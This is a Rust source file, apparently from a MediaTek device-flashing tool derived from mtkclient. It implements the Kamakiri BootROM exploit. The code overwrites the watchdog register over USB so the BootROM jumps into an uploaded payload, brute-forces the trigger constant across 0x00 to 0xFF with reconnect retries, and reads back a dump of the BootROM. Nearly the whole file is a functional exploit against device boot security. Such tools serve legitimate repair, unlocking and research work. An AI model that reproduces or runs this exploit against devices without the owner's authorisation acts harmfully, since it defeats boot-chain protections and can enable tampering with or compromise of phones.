/*
    SPDX-License-Identifier: GPL-3.0-or-later
    SPDX-FileCopyrightText: 2025 Shomy

    Derived from:
    https://github.com/bkerler/mtkclient/blob/main/mtkclient/Library/kamakiri.py
    Original SPDX-License-Identifier: GPL-3.0-or-later
    Original SPDX-FileCopyrightText: 2018–2024 bkerler

    This file remains under the GPL-3.0-or-later license.
    However, as part of a larger project licensed under the AGPL-3.0-or-later,
    the combined work is subject to the networking terms of the AGPL-3.0-or-later,
    as for term 13 of the GPL-3.0-or-later license.
*/
use log::{debug, info, warn};

use crate::connection::Connection;
use crate::connection::command::Command;
use crate::core::chip::ChipProfile;
use crate::error::{Error, ExploitFailure, Result};
use crate::exploit::payload::Payload;
use crate::exploit::{
    BruteForceEvent,
    ConstantStore,
    DeviceConnector,
    ExploitOptions,
    ExploitOutcome,
    start_constant,
};
use crate::utilities::CancelToken;

const WDT_OVERWRITE_OFFSET: u32 = 0x50;
const WARMUP_READS: u32 = 15;
const ROM_CHUNK: usize = 0x20000;

const TRIGGER_REQUEST_TYPE: u8 = 0xA1;
const TRIGGER_REQUEST: u8 = 0;

/// Reconnects tried for one constant before moving on to the next.
const RECONNECT_ATTEMPTS: u32 = 3;

/// States of the constant search.
#[derive(Debug)]
enum Step {
    AttemptConstant(u8),
    AwaitDevicePresent { constant: u8, tries: u32 },
    RunAttempt(u8),
    Retry(u8),
    Success { constant: u8, rom: Vec<u8> },
    Exhausted,
}

/// Watchdog register overwrite that redirects the BootROM into an uploaded payload.
pub struct Kamakiri {
    watchdog: u32,
    payload: Payload,
    options: ExploitOptions,
    cancel: CancelToken,
}

impl Kamakiri {
    pub fn new(profile: &ChipProfile, payload: &[u8]) -> Self {
        Self::from_parts(profile.watchdog, Payload::for_profile(profile, payload))
    }

    pub fn from_parts(watchdog: u32, payload: Payload) -> Self {
        Kamakiri { watchdog, payload, options: ExploitOptions::default(), cancel: CancelToken::new() }
    }

    pub fn with_options(mut self, options: ExploitOptions) -> Self {
        self.options = options;
        self
    }

    pub fn with_cancel(mut self, cancel: CancelToken) -> Self {
        self.cancel = cancel;
        self
    }

    /// One shot with `constant`. Returns the BootROM image the payload sends back.
    pub async fn attempt(&self, conn: &mut Connection, constant: u8) -> Result<Vec<u8>> {
        let addr = self.watchdog + WDT_OVERWRITE_OFFSET;
        conn.write32(addr, &[self.payload.load_addr.swap_bytes()]).await?;

        for i in 0..WARMUP_READS {
            let back = WARMUP_READS - i;
            conn.read32(addr - back * 4, (back + 1) as usize).await?;
        }

        let len = self.payload.len();
        conn.echo(&[Command::SendPayload as u8]).await?;
        conn.echo(&(len as u32).to_be_bytes()).await?;

        let status = conn.channel().read_u16_le().await?;
        if status != 0 {
            return Err(ExploitFailure::PayloadTooLarge { len, status }.into());
        }

        debug!("Sending 0x{:X} byte payload", len);
        conn.channel().write(&self.payload.data).await?;
        conn.channel().read_exact(2).await?;
        conn.channel().read_exact(2).await?;

        // The BootROM jumps into the payload instead of completing the transfer
        match conn
            .channel()
            .ctrl_in(TRIGGER_REQUEST_TYPE, TRIGGER_REQUEST, constant as u16, 0, 0)
            .await
        {
            Ok(_) => debug!("Trigger transfer completed"),
            Err(e) => debug!("Trigger transfer failed: {}", e),
        }

        self.dump_rom(conn).await
    }

    async fn dump_rom(&self, conn: &mut Connection) -> Result<Vec<u8>> {
        let head = conn.channel().read(Some(4), None).await?;
        if head.len() != 4 {
            return Err(ExploitFailure::VerificationFailed { expected: 4, got: head.len() }.into());
        }

        let length = u32::from_be_bytes([head[0], head[1], head[2], head[3]]) as usize;
        if length == 0 || length > self.options.max_dump {
            return Err(ExploitFailure::VerificationFailed { expected: self.options.max_dump, got: length }.into());
        }

        let mut rom = Vec::with_capacity(length);
        while rom.len() < length {
            let want = (length - rom.len()).min(ROM_CHUNK);
            let chunk = conn.channel().read(Some(want), None).await?;
            let short = chunk.len() < want;
            rom.extend(chunk);

            if short {
                return Err(ExploitFailure::VerificationFailed { expected: length, got: rom.len() }.into());
            }
        }

        info!("Received 0x{:X} bytes of BootROM", rom.len());
        Ok(rom)
    }

    /// Searches `[start, 0xFF]` for the constant the BootROM accepts.
    ///
    /// Every attempt starts from a fresh link obtained through `connector`, which replaces
    /// `conn` and keeps its channel configuration. A reconnect that fails is retried up to
    /// `RECONNECT_ATTEMPTS` times before the constant counts as failed.
    /// On exhaustion the link is closed and the device has to be re-seated.
    pub async fn run<F>(
        &self,
        conn: &mut Connection,
        hw_code: u16,
        known: Option<u8>,
        connector: &mut dyn DeviceConnector,
        store: &mut dyn ConstantStore,
        mut on_event: F,
    ) -> Result<ExploitOutcome>
    where
        F: FnMut(BruteForceEvent),
    {
        let start = start_constant(store, hw_code, known, &self.options);
        let config = conn.channel().config().clone();
        let mut step = Step::AttemptConstant(start);

        loop {
            self.cancel.check()?;

            step = match step {
                Step::AttemptConstant(constant) => {
                    info!("Trying constant 0x{:02X}", constant);
                    on_event(BruteForceEvent::Attempting { constant });
                    Step::AwaitDevicePresent { constant, tries: 0 }
                }
                Step::AwaitDevicePresent { constant, tries } => {
                    on_event(BruteForceEvent::WaitingForDevice { constant });
                    if let Err(e) = conn.close().await {
                        debug!("Closing the previous link failed: {}", e);
                    }

                    match connector.reconnect(&self.cancel, &config).await {
                        Ok(fresh) => {
                            *conn = fresh;
                            Step::RunAttempt(constant)
                        }
                        Err(Error::Cancelled) => return Err(Error::Cancelled),
                        Err(e) => {
                            warn!("Reconnect {}/{} failed: {}", tries + 1, RECONNECT_ATTEMPTS, e);
                            on_event(BruteForceEvent::AttemptFailed { constant, reason: e.to_string() });
                            if tries + 1 < RECONNECT_ATTEMPTS {
                                Step::AwaitDevicePresent { constant, tries: tries + 1 }
                            } else {
                                Step::Retry(constant)
                            }
                        }
                    }
                }
                Step::RunAttempt(constant) => match self.attempt(conn, constant).await {
                    Ok(rom) => Step::Success { constant, rom },
                    Err(e @ Error::Exploit(ExploitFailure::PayloadTooLarge { .. })) => return Err(e),
                    Err(Error::Cancelled) => return Err(Error::Cancelled),
                    Err(e) => {
                        debug!("Constant 0x{:02X} failed: {}", constant, e);
                        on_event(BruteForceEvent::AttemptFailed { constant, reason: e.to_string() });
                        Step::Retry(constant)
                    }
                },
                Step::Retry(constant) => match constant.checked_add(1) {
                    Some(next) => Step::AttemptConstant(next),
                    None => Step::Exhausted,
                },
                Step::Success { constant, rom } => {
                    info!("BootROM accepted constant 0x{:02X}", constant);
                    if let Err(e) = store.store(hw_code, constant) {
                        warn!("Could not remember constant 0x{:02X}: {}", constant, e);
                    }
                    on_event(BruteForceEvent::Found { constant });
                    return Ok(ExploitOutcome { constant, rom });
                }
                Step::Exhausted => {
                    if let Err(e) = conn.close().await {
                        debug!("Closing the link failed: {}", e);
                    }
                    return Err(ExploitFailure::ConstantNotFound { start }.into());
                }
            };
        }
    }
}
